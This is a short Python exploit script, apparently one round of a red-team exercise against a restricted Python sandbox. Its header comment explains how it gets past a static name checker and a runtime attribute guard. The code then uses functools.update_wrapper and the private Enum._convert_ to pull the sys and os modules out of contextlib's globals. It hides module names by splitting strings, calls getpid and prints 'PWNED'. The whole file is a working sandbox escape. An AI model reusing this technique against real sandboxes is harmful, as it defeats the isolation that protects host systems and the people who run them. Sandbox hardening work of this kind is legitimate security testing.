# adversary round 7: static gap: update_wrapper under another name escapes the assigned/updated check; run-time gap: a library getattr with a handed name only refuses LIBRARY_REFUSED, so it fetches the refused private classmethod Enum._convert_, which copies any module's globals (typing's sys/os) into enum members
import functools, enum, contextlib

uw = functools.update_wrapper
box = {}

class Catcher:
    def __setattr__(self, k, v):
        box[k] = v
    def __call__(self):
        pass

uw(Catcher(), enum.Enum, ('_con' + 'vert_',), ())
conv = box['_con' + 'vert_']
X = conv('X', 'context' + 'lib', lambda n: n in ('s' + 'ys', 'o' + 's'))
for m in X:
    print(m.name, type(m.value).__name__)
s = X['s' + 'ys'].value
print(s.__name__, 'pid', s.modules['o' + 's'].getpid())
print('PWN' + 'ED')
